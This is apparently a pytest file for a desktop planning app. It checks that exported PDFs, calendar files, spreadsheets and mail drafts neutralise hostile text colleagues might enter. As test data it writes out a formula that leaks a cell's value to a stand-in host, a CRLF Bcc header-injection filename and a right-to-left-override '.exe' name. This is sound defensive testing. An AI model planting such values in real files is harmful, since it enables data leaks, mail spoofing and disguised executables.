"""Every paper and file that goes out with evil texts in it: they are written as they are, and do nothing."""

from __future__ import annotations

import email
import email.policy
from datetime import date
from pathlib import Path

import pypdfium2
import pytest
from msgspec.structs import replace
from openpyxl import load_workbook

from fardplan_desktop.domain.periods import Period
from fardplan_desktop.services import (
    activities,
    approval_papers,
    deviations,
    inquiries,
    letters,
    papers,
    reminders,
    timelines,
)
from fardplan_desktop.services.inquiries import Colleague
from fardplan_desktop.services.workplace import Workplace
from tests.evil import MARKUP

FORMULA = '=HYPERLINK("http://x/?"&A1)'
DAY = date(2026, 9, 14)


@pytest.fixture
def spoilt(edet: Workplace) -> Workplace:
    """A store in which a colleague has written markup, formulas and line breaks."""
    for title in (f"{MARKUP} A", FORMULA, "Kalender\nATTENDEE;X=1:okänd"):
        made, _ = activities.add(edet, title=title, responsible=MARKUP, status="pagar", end=date(2026, 10, 1))
        activities.check_in(edet, activity=made, status="pagar", forecast="risk", comment=MARKUP)
    draft = replace(
        deviations.blank(edet), month="2026-08", registered=date(2026, 8, 20), category="lakemedel", summary=MARKUP
    )
    deviations.add(edet, draft=draft)
    return edet


def words_of(pdf: bytes) -> str:
    document = pypdfium2.PdfDocument(pdf)
    try:
        return " ".join(page.get_textpage().get_text_bounded() for page in document)
    finally:
        document.close()


def test_papers_print_markup_as_text(spoilt: Workplace, period: Period) -> None:
    made = {
        "meeting": papers.meeting_pdf(spoilt, period=period, as_of=DAY),
        "timeline": timelines.timeline_pdf(spoilt, year=2026, as_of=DAY),
    }
    for name, pdf in made.items():
        assert "<b>fet</b>" in words_of(pdf), name
        assert b"/URI" not in pdf
        assert b"/JavaScript" not in pdf
    assert words_of(approval_papers.approval_pdf(spoilt, period=period, as_of=DAY))


def test_a_calendar_file_has_no_line_that_a_title_put_there(spoilt: Workplace) -> None:
    lines = reminders.calendar_file(spoilt, as_of=DAY).decode().split("\r\n")
    assert any("ATTENDEE" in line for line in lines)
    assert not any(line.startswith("ATTENDEE") for line in lines)


def test_a_question_workbook_computes_nothing(spoilt: Workplace, period: Period, tmp_path: Path) -> None:
    ids = tuple(each.id for each in activities.activities(spoilt))
    (made,), _ = inquiries.ask(
        spoilt, period=period, colleagues=[Colleague(to="=1+1", activities=ids)], latest=DAY, folder=tmp_path
    )
    cells = [cell for sheet in load_workbook(made.workbook) for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert f"'{FORMULA}" in {cell.value for cell in cells}
    assert not any(cell.hyperlink for cell in cells)


@pytest.mark.parametrize("name", ["a\r\nBcc: x@example.com.pdf", "f\udcffil.pdf", "\u202efdp.exe", "=1+1.pdf"])
def test_a_mail_draft_has_no_header_that_a_name_put_there(name: str) -> None:
    letter = letters.Letter("Ed", f"Fil {name}", f"Filen {name}")
    data = letters.draft(letter=letter, attachments=[letters.Attachment(name, b"x")], address="a@example.com")
    message = email.message_from_bytes(data, policy=email.policy.default)
    assert message["Bcc"] is None
    assert set(message.keys()) == {"X-Unsent", "To", "Subject", "MIME-Version", "Content-Type"}
    assert len(list(message.iter_attachments())) == 1
